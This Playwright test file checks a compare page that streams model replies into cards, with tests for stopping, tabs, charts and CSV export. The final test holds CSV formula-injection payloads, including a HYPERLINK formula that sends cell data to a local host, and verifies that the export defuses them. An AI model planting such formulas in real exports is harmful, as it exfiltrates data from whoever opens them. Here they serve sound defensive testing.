"""The compare page in Chromium: replies stream into several cards at once, and Stop keeps
what arrived."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from playwright.sync_api import Locator, ViewportSize, expect

from testing.app_process import AppProcess
from testing.fake_openai import FakeOpenAI, Reply
from tests.e2e.conftest import ChatPage, OpenPage, copy_to_docs
from tests.e2e.views import boxes

pytestmark = pytest.mark.e2e

PROMPT = "Describe the sea at night in a few words please"
ECHO = f"Echo: {PROMPT}"
LAST_WORD = "please"
SCREENSHOT_REPLIES = {  # three samples each of temperatures 0, 0.7 and 1.4, in grid order
    0.0: ["The sea at night is dark, calm and quiet."] * 3,
    0.7: [
        "The sea at night is dark and calm, silver where the moon falls.",
        "At night the sea is a dark, calm mirror under the moon.",
        "The sea at night: dark, calm, and softly breathing.",
    ],
    1.4: [
        "Ink-black swells hum a lullaby to the drowsy harbour lights.",
        "Moonlight stitches silver seams across a restless velvet tide.",
        "A whispering abyss, star-freckled, rocking the sleeping boats.",
    ],
}
# The echo, a word every half second, again and again: no reply ends by itself (only a stop
# or the fake's HANG_LIMIT, 30 s, ends it), and none stalls. A "hang" would not do: the app
# gives up on a silent stream after READ_TIMEOUT_S (3 s), which ends the run by itself, and
# a test that steps through the page in between races that clock and loses under load.
NEVER_ENDING = Reply(fault="endless", chunk_delay=0.5)


PATH = "compare"


class ComparePage:
    """The compare page as a user sees it."""

    def __init__(self, chat: ChatPage) -> None:
        self.chat = chat
        self.page = chat.page

    @classmethod
    def opened(cls, open_page: OpenPage, app: AppProcess) -> ComparePage:
        """The page opened in a tab of its own, straight from its URL."""
        return cls(open_page(app, path=PATH)).shown()

    def open(self) -> ComparePage:
        """Go to the page in this tab (a document of its own: another session)."""
        self.chat.open(PATH)
        return self.shown()

    def shown(self) -> ComparePage:
        expect(self.page.get_by_role("heading", name="Compare")).to_be_visible()
        self.chat.wait_idle()
        return self

    def field(self, label: str) -> Locator:
        main = self.chat.main
        return main.get_by_role("textbox", name=label, exact=True)

    def number(self, label: str) -> Locator:
        return self.chat.main.get_by_role("spinbutton", name=label)

    def card(self, index: int) -> Locator:
        return self.page.locator(f".st-key-compare_card_{index}")

    def fill(self, locator: Locator, value: str) -> None:
        locator.fill(value)
        locator.press("Tab")  # a text field applies on blur
        expect(locator).to_have_value(value)
        self.chat.wait_idle()

    def run(self, *, samples: int, at_once: int = 4) -> None:
        self.fill(self.field("Prompt"), PROMPT)
        self.fill(self.number("Samples per setting"), str(samples))
        self.fill(self.number("Requests at once"), str(at_once))
        self.page.get_by_role("button", name="Run", exact=True).click()

    @property
    def stop(self) -> Locator:
        return self.page.locator(".st-key-compare_stop").get_by_role("button")

    def tab(self, name: str) -> Locator:
        return self.chat.main.get_by_role("tab", name=name, exact=True)

    @property
    def results_table(self) -> Locator:
        """The report's table (the form's own tables, its editors, are not in a tab)."""
        return self.chat.main.get_by_role("tabpanel").get_by_test_id("stDataFrame")

    def read_from_top(self) -> None:
        """Scroll the page to its top, as a person arriving at the report reads it: pressing
        Run scrolled to the button, and where the folded form then leaves the page depends
        on the redraws' timing (in CI the report's head was once just above the window)."""
        self.chat.main.evaluate(
            "main => { for (let e = main; e; e = e.parentElement) e.scrollTop = 0 }"
        )

    def show(self, name: str) -> None:
        """Open the report's tab ``name`` (Cards, Table, Charts), once the page is idle: the
        run that ends a sweep redraws the report (its head grows by the summary), and a
        click made meanwhile can land on what moved under it (in CI: a card's thumbs, whose
        rating added a Scores tab and reset the tabs)."""
        self.chat.wait_idle()
        self.tab(name).click()
        expect(self.tab(name)).to_have_attribute("aria-selected", "true")
        self.chat.wait_idle()
        expect(self.tab(name)).to_have_attribute("aria-selected", "true")


@pytest.fixture
def compare(open_page: OpenPage, app: AppProcess) -> ComparePage:
    return ComparePage.opened(open_page, app)


def test_replies_stream_into_several_cards_at_once(compare: ComparePage, fake: FakeOpenAI) -> None:
    fake.default_reply = Reply(chunk_delay=0.4)  # the echo of the prompt, a word at a time
    compare.run(samples=1)

    cards = [compare.card(index) for index in range(3)]
    for card in cards:
        expect(card).to_contain_text("Echo:")
    # Each of three ten-word replies takes four seconds: all three have begun, and at most
    # one can have ended.
    texts = [card.inner_text() for card in cards]
    assert sum(LAST_WORD not in text for text in texts) >= 2
    for card in cards:
        expect(card).to_contain_text(ECHO)
        expect(card).to_contain_text("finish: stop")
    compare.chat.wait_idle()
    assert sorted(r.body["temperature"] for r in fake.chat_requests) == [0.0, 0.7, 1.4]


def test_stop_ends_the_run_and_keeps_what_arrived(compare: ComparePage, fake: FakeOpenAI) -> None:
    fake.default_reply = NEVER_ENDING
    compare.run(samples=2, at_once=2)
    first, second = compare.card(0), compare.card(1)
    expect(first).to_contain_text("Echo: Describe")
    expect(second).to_contain_text("Echo: Describe")
    expect(compare.card(2)).to_contain_text("Waiting for its turn")

    compare.stop.click()
    expect(first).to_contain_text("Stopped: what arrived is kept.")
    expect(second).to_contain_text("Stopped: what arrived is kept.")
    expect(compare.card(5)).to_contain_text("Not run.")
    compare.chat.wait_idle()
    assert "Echo: Describe" in first.inner_text()
    assert len(fake.chat_requests) == 2  # the waiting cells were never sent
    compare.show("Table")
    expect(compare.results_table).to_be_visible()


def run_the_screenshot_grid(compare: ComparePage, fake: FakeOpenAI, models: int = 1) -> None:
    """Three temperatures, three samples each (each model), one at a time, to the end."""
    for _ in range(models):
        for replies in SCREENSHOT_REPLIES.values():
            fake.enqueue(*(Reply(text=text, chunk_delay=0.01) for text in replies))
    compare.run(samples=3, at_once=1)  # one at a time: the queue's order is the grid's
    expect(compare.card(9 * models - 1)).to_contain_text("finish: stop")
    compare.chat.wait_idle()
    expect(compare.stop).to_have_count(0)  # the run is over


def test_results_table_and_charts_are_tabs_of_the_report(
    compare: ComparePage, fake: FakeOpenAI
) -> None:
    compare.page.set_viewport_size({"width": 1280, "height": 1000})
    run_the_screenshot_grid(compare, fake)
    first_setting = compare.page.get_by_role("strong").filter(has_text="temperature=0.0")
    compare.read_from_top()
    expect(first_setting).to_be_in_viewport()  # the form folded: the cards start near the top
    copy_to_docs(compare.chat.screenshot("compare-results"), "compare.png")
    compare.show("Table")
    expect(compare.results_table).to_be_visible()
    expect(compare.page.get_by_role("button", name="Download CSV")).to_be_visible()
    compare.show("Charts")
    expect(compare.page.get_by_text("How varied the samples are")).to_be_visible()
    # Length, total time, first token, speed, and three of variety (a local server has
    # no prices).
    expect(compare.page.get_by_test_id("stVegaLiteChart")).to_have_count(7)


@pytest.mark.parametrize(
    "viewport", [{"width": 1280, "height": 800}, {"width": 390, "height": 844}], ids=str
)
def test_the_charts_show_without_scrolling_past_the_cards(
    compare: ComparePage, fake: FakeOpenAI, viewport: ViewportSize
) -> None:
    compare.page.set_viewport_size(viewport)
    models = compare.chat.main.get_by_role("combobox", name="Models")
    compare.chat.choose(models, "gpt-4o")
    compare.page.keyboard.press("Escape")  # the list stays open for more picks
    expect(compare.page.get_by_role("option", name="o3-mini")).to_have_count(0)
    compare.chat.wait_idle()
    run_the_screenshot_grid(compare, fake, models=2)
    charts = compare.tab("Charts")
    compare.read_from_top()
    expect(charts).to_be_in_viewport()  # on the first screen, above the eighteen cards
    tabs, card = boxes(charts, compare.card(0))
    assert tabs["y"] < card["y"]
    compare.show("Charts")
    first_chart = compare.page.get_by_test_id("stVegaLiteChart").first
    expect(first_chart).to_be_in_viewport()
    compare.chat.assert_no_exception()
    compare.chat.screenshot(f"compare-charts-{viewport['width']}")


def test_other_pages_open_while_a_sweep_runs_and_it_runs_on(
    compare: ComparePage, fake: FakeOpenAI
) -> None:
    fake.default_reply = NEVER_ENDING
    compare.run(samples=1)
    expect(compare.card(0)).to_contain_text("Echo: Describe")

    nav = compare.page.get_by_test_id("stSidebarNav")
    nav.get_by_role("link", name="Chat").click()
    expect(compare.chat.input).to_be_visible()  # the chat page is not held up by the sweep
    compare.chat.wait_idle()

    nav.get_by_role("link", name="Compare").click()
    expect(compare.card(0)).to_contain_text("Echo: Describe")  # still there, still running
    expect(compare.stop).to_be_visible()
    compare.stop.click()
    for index in range(3):
        expect(compare.card(index)).to_contain_text("Stopped: what arrived is kept.")
    compare.chat.wait_idle()


def test_the_csv_download_turns_formulas_into_text(compare: ComparePage, fake: FakeOpenAI) -> None:
    hostile = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"see")', "+1+1", "@SUM(1)"]
    fake.enqueue(*(Reply(text=text) for text in hostile))
    compare.run(samples=1, at_once=1)  # one at a time: the queue's order is the grid's
    expect(compare.card(2)).to_contain_text("finish: stop")
    compare.chat.wait_idle()
    compare.show("Table")
    with compare.page.expect_download() as download:
        compare.page.get_by_role("button", name="Download CSV").click()
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(), newline="")))
    assert [row["output"] for row in rows] == ["'" + text for text in hostile]
